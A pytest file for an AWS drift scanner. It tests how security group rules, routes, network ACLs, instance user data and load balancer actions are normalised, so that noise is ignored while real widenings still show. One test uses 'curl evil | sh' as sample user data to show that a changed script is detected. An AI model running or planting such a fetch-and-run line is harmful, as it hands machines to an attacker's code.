"""The rules that fold noise in networks, security groups, instances and load balancers, and what they must not hide."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from functions.scan.domain.resources import Declared, Parent
from functions.scan.readers.aws.ec2_routing import _is_default_exit, _is_made_by_aws, _is_open
from functions.scan.readers.aws.ec2_security import _is_untouched_default
from functions.scan.types.aws import SPECS, ec2_compute, ec2_routing, ec2_security, ec2_templates, elbv2
from local_emulator.moto_server import action_of, is_read

RULE: dict[str, object] = {
    "protocol": "tcp",
    "from_port": 443,
    "to_port": 443,
    "cidr_blocks": ["10.0.0.0/8"],
    "self": False,
}
INTO = {"IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": "sg-1"}]}
OUT = {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
LOCAL = {"cidr_block": "10.0.0.0/16", "gateway_id": "local"}
EXIT = {"cidr_block": "0.0.0.0/0", "gateway_id": "igw-1"}
SHORT = {"type": "forward", "target_group_arn": "arn:1"}


def expand(kind: str, **attributes: Any) -> list[Declared]:
    spec = SPECS[kind]
    assert spec.expand is not None
    return list(
        spec.expand(Declared(f"{kind}.x", kind, spec.key(attributes), attributes, parent=spec.parent(attributes)))
    )


class TestInlineRules:
    def test_one_block_with_two_sources_equals_two_blocks(self) -> None:
        together = [{**RULE, "cidr_blocks": ["10.0.0.0/8", "192.168.0.0/16"]}]
        apart = [{**RULE, "cidr_blocks": ["192.168.0.0/16"]}, RULE]
        assert ec2_security.inline_rules(together) == ec2_security.inline_rules(apart)

    @pytest.mark.parametrize(
        "change",
        [
            {"cidr_blocks": ["0.0.0.0/0"]},
            {"from_port": 1},
            {"to_port": 65535},
            {"protocol": "-1"},
            {"protocol": "udp"},
            {"self": True},
            {"description": "x"},
            {"security_groups": ["sg-1"]},
            {"ipv6_cidr_blocks": ["::/0"]},
        ],
    )
    def test_every_widening_shows(self, change: dict[str, object]) -> None:
        assert ec2_security.inline_rules([RULE]) != ec2_security.inline_rules([{**RULE, **change}])

    def test_ports_say_nothing_without_a_protocol_that_has_them(self) -> None:
        every = {**RULE, "protocol": "-1"}
        assert ec2_security.inline_rules([every]) == ec2_security.inline_rules(
            [{**every, "from_port": 0, "to_port": 0}]
        )

    def test_every_icmp_type_is_minus_one_or_absent(self) -> None:
        ping = {**RULE, "protocol": "icmp", "from_port": 8, "to_port": 0}
        every = {**ping, "from_port": -1, "to_port": -1}
        assert ec2_security.inline_rules([every]) == ec2_security.inline_rules(
            [{**every, "from_port": None, "to_port": None}]
        )
        assert ec2_security.inline_rules([every]) != ec2_security.inline_rules([ping])

    def test_no_rules_are_null(self) -> None:
        assert ec2_security.inline_rules([]) is None


class TestStandaloneRules:
    def test_one_resource_stands_for_one_rule_per_source(self) -> None:
        found = expand(
            "aws_security_group_rule",
            type="ingress",
            security_group_id="sg-1",
            protocol="6",
            from_port=80,
            to_port=80,
            cidr_blocks=["10.0.0.0/8", "172.16.0.0/12"],
        )
        assert [item.key for item in found] == [
            "sg-1|ingress|tcp|80|80|cidr_ipv4=10.0.0.0/8",
            "sg-1|ingress|tcp|80|80|cidr_ipv4=172.16.0.0/12",
        ]
        assert {item.type for item in found} == {ec2_security.INGRESS}
        assert found[0].parent == Parent("aws_security_group", "sg-1", "ingress")

    def test_the_id_of_a_single_rule_is_its_key(self) -> None:
        shared = {"security_group_id": "sg-1", "protocol": "all", "from_port": 0, "to_port": 0, "type": "egress"}
        (found,) = expand(
            "aws_security_group_rule", cidr_blocks=["0.0.0.0/0"], security_group_rule_id="sgr-1", **shared
        )
        assert (found.type, found.key) == (ec2_security.EGRESS, "sgr-1")
        assert found.attributes["from_port"] is None

    def test_self_is_the_group_itself(self) -> None:
        shared = {"type": "ingress", "protocol": "tcp", "from_port": 1, "to_port": 2}
        (found,) = expand("aws_security_group_rule", security_group_id="sg-1", self=True, **shared)
        assert found.attributes["referenced_security_group_id"] == "sg-1"

    def test_keys_tell_protocols_ports_and_sources_apart(self) -> None:
        base: dict[str, object] = {"ip_protocol": "tcp", "from_port": 1, "to_port": 2, "cidr_ipv4": "10.0.0.0/8"}
        others: list[dict[str, object]] = [
            {"ip_protocol": "udp"},
            {"from_port": 0},
            {"to_port": 3},
            {"cidr_ipv4": "0.0.0.0/0"},
        ]
        keys = {ec2_security.rule_key("sg-1", "ingress", {**base, **other}) for other in ({}, *others)}
        assert len(keys) == len(others) + 1
        assert ec2_security.rule_key("sg-1", "egress", base) not in keys


class TestUntouchedDefaultGroup:
    def group(self, *extra: dict[str, Any], name: str = "default") -> dict[str, Any]:
        into = [INTO, *extra]
        return {"GroupId": "sg-1", "GroupName": name, "IpPermissions": into, "IpPermissionsEgress": [OUT]}

    def test_as_aws_made_it(self) -> None:
        assert _is_untouched_default(self.group())

    def test_a_rule_added_by_hand_shows(self) -> None:
        opened = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
        assert not _is_untouched_default(self.group(opened))

    def test_all_from_another_group_shows(self) -> None:
        assert not _is_untouched_default(self.group({"IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": "sg-2"}]}))

    def test_other_groups_are_never_cloud_made(self) -> None:
        assert not _is_untouched_default(self.group(name="web"))


class TestRoutes:
    def test_local_routes_say_nothing(self) -> None:
        assert ec2_routing.routes([LOCAL, EXIT]) == ec2_routing.routes([EXIT])

    def test_a_local_route_pointed_elsewhere_shows(self) -> None:
        moved = {"cidr_block": "10.0.0.0/16", "network_interface_id": "eni-1"}
        assert ec2_routing.routes([moved, EXIT]) != ec2_routing.routes([EXIT])

    def test_another_target_shows(self) -> None:
        assert ec2_routing.routes([EXIT]) != ec2_routing.routes([{**EXIT, "gateway_id": "igw-2"}])

    @pytest.mark.parametrize(
        ("route", "is_made"),
        [
            ({"GatewayId": "local", "DestinationCidrBlock": "10.0.0.0/16"}, True),
            ({"GatewayId": "vgw-1", "Origin": "EnableVgwRoutePropagation"}, True),
            ({"GatewayId": "vpce-1", "DestinationPrefixListId": "pl-1"}, True),
            ({"GatewayId": "vpce-1", "DestinationCidrBlock": "0.0.0.0/0"}, False),
            ({"GatewayId": "igw-1", "Origin": "CreateRoute"}, False),
            ({"NetworkInterfaceId": "eni-1", "Origin": "CreateRouteTable"}, False),
        ],
    )
    def test_routes_that_aws_makes(self, route: dict[str, str], is_made: bool) -> None:  # noqa: FBT001 -- a table
        assert _is_made_by_aws(route) is is_made

    def test_a_default_route_added_by_hand_is_not_the_one_of_a_default_vpc(self) -> None:
        found = {"DestinationCidrBlock": "0.0.0.0/0", "GatewayId": "igw-1", "Origin": "CreateRoute"}
        assert not _is_default_exit(found)
        assert _is_default_exit({**found, "Origin": "CreateRouteTable"})

    def test_the_table_that_was_main_before_is_known(self) -> None:
        first, second = expand(
            "aws_main_route_table_association", vpc_id="vpc-1", route_table_id="rtb-2", original_route_table_id="rtb-1"
        )
        assert (first.type, first.key) == ("aws_main_route_table_association", "vpc-1")
        assert (second.type, second.key, dict(second.attributes)) == ("aws_route_table", "rtb-1", {})

    def test_keys(self) -> None:
        assert ec2_routing.route_key({"route_table_id": "rtb-1", "destination_ipv6_cidr_block": "::/0"}) == "rtb-1|::/0"
        assert ec2_routing.route_key({"route_table_id": "rtb-1"}) is None
        rule = {"network_acl_id": "acl-1", "rule_number": 100, "egress": False}
        assert ec2_routing.acl_rule_key(rule) == "acl-1|ingress|100"
        assert ec2_routing.acl_rule_key({**rule, "egress": True}) == "acl-1|egress|100"


class TestNetworkAcls:
    @pytest.mark.parametrize(
        ("name", "number"), [("tcp", 6), ("6", 6), (6, 6), ("all", -1), ("-1", -1), ("ipv6-icmp", 58)]
    )
    def test_protocols_by_name_and_number(self, name: object, number: int) -> None:
        assert ec2_routing.protocol_number(name) == number

    def test_only_the_entry_that_aws_writes_is_its_own(self) -> None:
        entry = {"RuleNumber": 100, "CidrBlock": "0.0.0.0/0", "Protocol": "-1", "RuleAction": "allow"}
        assert _is_open(entry)
        for change in ({"RuleNumber": 90}, {"RuleAction": "deny"}, {"CidrBlock": "10.0.0.0/8"}, {"Protocol": "6"}):
            assert not _is_open({**entry, **change})


class TestUserData:
    SCRIPT = "#!/bin/sh\necho web\n"

    def test_text_base64_and_hash_are_one(self) -> None:
        encoded = base64.b64encode(self.SCRIPT.encode()).decode()
        hashed = ec2_compute.user_data_hash(encoded)
        assert (
            ec2_compute.user_data(encoded)
            == ec2_compute.user_data(hashed)
            == ec2_compute.user_data(self.SCRIPT)
            == hashed
        )
        (found,) = expand("aws_instance", id="i-1", user_data_base64=encoded, user_data=None)
        assert found.attributes["user_data"] == hashed

    def test_another_script_shows(self) -> None:
        assert ec2_compute.user_data(self.SCRIPT) != ec2_compute.user_data("#!/bin/sh\ncurl evil | sh\n")
        assert ec2_compute.user_data(self.SCRIPT) != ec2_compute.user_data(None)


def test_a_flag_left_to_aws_is_not_false() -> None:
    assert ec2_templates.optional_boolean("") is None
    assert ec2_templates.optional_boolean("false") is False
    assert ec2_templates.optional_boolean(True) is True


class TestListenerActions:
    def long(self, *arns: str, **stickiness: object) -> dict[str, object]:
        groups = [{"arn": arn, "weight": 1} for arn in arns]
        return {
            "type": "forward",
            "forward": [{"target_group": groups, "stickiness": [stickiness] if stickiness else []}],
        }

    def test_one_group_may_be_written_in_both_ways(self) -> None:
        assert elbv2.action(SHORT) == elbv2.action(self.long("arn:1"))
        assert elbv2.action(SHORT) == elbv2.action({**SHORT, **self.long("arn:1", enabled=False, duration=60)})

    def test_another_group_a_second_group_or_stickiness_show(self) -> None:
        plain = elbv2.action(SHORT)
        assert plain != elbv2.action(self.long("arn:2"))
        assert plain != elbv2.action(self.long("arn:1", "arn:2"))
        assert plain != elbv2.action(self.long("arn:1", enabled=True, duration=60))

    def test_weights_count_between_groups(self) -> None:
        groups = [{"arn": "arn:1", "weight": 80}, {"arn": "arn:2", "weight": 20}]
        even = [{**group, "weight": 50} for group in groups]
        assert elbv2.action({"type": "forward", "forward": [{"target_group": groups}]}) != elbv2.action(
            {"type": "forward", "forward": [{"target_group": even}]}
        )


class TestLoadBalancers:
    def test_where_logs_would_go_says_nothing_while_they_are_off(self) -> None:
        assert elbv2.enabled_log([{"enabled": False, "bucket": "b"}]) is None
        assert elbv2.enabled_log([{"enabled": True, "bucket": "b"}]) != elbv2.enabled_log(
            [{"enabled": True, "bucket": "c"}]
        )
        assert elbv2.enabled_log([{"enabled": True, "bucket": "b"}]) is not None

    def test_client_certificates_switched_off_show(self) -> None:
        assert elbv2.client_certificates([{"mode": "off"}]) == elbv2.client_certificates([]) is None
        assert elbv2.client_certificates([{"mode": "verify"}]) != elbv2.client_certificates([{"mode": "passthrough"}])

    def test_a_target_without_a_port_is_on_the_port_of_its_group(self) -> None:
        place = {"target_group_arn": "arn:1", "target_id": "i-1"}
        assert elbv2.attachment_key({**place, "port": None}) == "arn:1|i-1|"
        assert elbv2.attachment_key({**place, "port": 80}) == "arn:1|i-1|80"


class TestRecording:
    @pytest.mark.parametrize(
        ("method", "target", "body", "action"),
        [
            ("POST", "", b"Action=DescribeVpcs&Version=2016-11-15", "DescribeVpcs"),
            ("POST", "DynamoDB_20120810.PutItem", b"{}", "PutItem"),
            ("GET", "", b"", "GET"),
            ("PUT", "", b"<x/>", "PUT"),
        ],
    )
    def test_actions(self, method: str, target: str, body: bytes, action: str) -> None:
        kind = "application/x-www-form-urlencoded" if body.startswith(b"Action") else "application/xml"
        assert action_of(method, target, "", kind, body) == action

    def test_what_only_looks_is_not_replayed(self) -> None:
        assert all(map(is_read, ("DescribeVpcs", "GetParameter", "ListKeys", "GET", "HEAD")))
        assert not any(map(is_read, ("CreateVpc", "PutItem", "POST", "PUT", "DELETE", "TagResource")))
